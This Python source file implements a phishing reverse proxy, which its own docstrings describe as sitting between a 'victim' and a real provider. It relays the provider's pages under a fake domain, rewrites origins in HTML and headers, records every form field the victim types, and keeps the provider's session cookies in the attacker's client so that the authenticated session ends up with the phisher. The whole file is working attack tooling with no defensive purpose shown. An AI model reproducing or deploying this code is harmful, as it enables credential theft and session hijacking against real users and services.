"""Run a phisher's proxy between a victim and a provider: real pages, another name, all recorded."""

from collections.abc import Callable, Iterable
from urllib.parse import quote
from wsgiref.types import StartResponse, WSGIEnvironment

import httpx
from werkzeug.wrappers import Request, Response

# Of one connection alone (RFC 9110, 7.6.1), or computed anew for the next one.
OF_ONE_CONNECTION = {
    "content-length",
    "connection",
    "accept-encoding",
    "transfer-encoding",
    "content-encoding",
}
NOT_PASSED_ON = {"host", "cookie", "set-cookie"}
Headers = list[tuple[str, str]]
RewriteHeaders = Callable[[Headers, str, str], Headers]


class Relay:
    """A WSGI app under the origin `fake` that asks `real` for everything. It forges nothing, breaks
    no cipher and guesses no password.

    `network` is the phisher's own browser: cookies that the provider sets stay in it, so in the end
    the session is there and nowhere else. `typed` is what the victim sent in forms. `rewrite` may
    change a page before the victim sees it. `rewrite_headers` gets the headers of a request or of
    an answer, the origin that stands in them, and the one to put in its place; it returns what is
    handed on. One victim at a time.
    """

    def __init__(
        self,
        network: httpx.Client,
        real: str,
        fake: str,
        rewrite: Callable[[str], str] = str,
        rewrite_headers: RewriteHeaders | None = None,
    ):
        self.network, self.real, self.fake, self.rewrite = network, real, fake, rewrite
        self.rewrite_headers = rewrite_headers or passed_on
        self.typed: dict[str, str] = {}

    def __call__(self, environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
        request = Request(environ)
        body = request.get_data()
        self.typed |= request.form.to_dict()
        headers = httpx.Headers(
            self.rewrite_headers(end_to_end(request.headers), self.fake, self.real),
            encoding="latin-1",
        )
        answer = self.network.request(
            request.method, self.real + target(environ), headers=headers, content=body
        )
        came = end_to_end(answer.headers.multi_items())
        returned = self.rewrite_headers(came, self.real, self.fake)
        return Response(self.shown(answer), answer.status_code, returned)(environ, start_response)

    def shown(self, answer: httpx.Response) -> bytes:
        """Return what the victim sees: pages under the relay's name, anything else unchanged."""
        if not answer.headers.get("content-type", "").startswith("text/html"):
            return answer.content
        return self.rewrite(answer.text.replace(self.real, self.fake)).encode(
            answer.encoding or "utf-8"
        )


def target(environ: WSGIEnvironment) -> str:
    """Return path and query as they were sent.

    WSGI has taken the percent signs out of the path, so they are put back.
    """
    path, query = (
        quote(environ["PATH_INFO"].encode("latin-1"), safe="/;@:+"),
        environ["QUERY_STRING"],
    )
    return f"{path}?{query}" if query else path


def end_to_end(headers: Iterable[tuple[str, str]]) -> Headers:
    """Return the headers that are meant for the other end, not for this connection alone."""
    return [(name, value) for name, value in headers if name.lower() not in OF_ONE_CONNECTION]


def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> Headers:
    """Return the headers that a relay passes on, with one origin in place of the other."""
    return [
        (name, value.replace(old, new))
        for name, value in end_to_end(headers)
        if name.lower() not in NOT_PASSED_ON
    ]
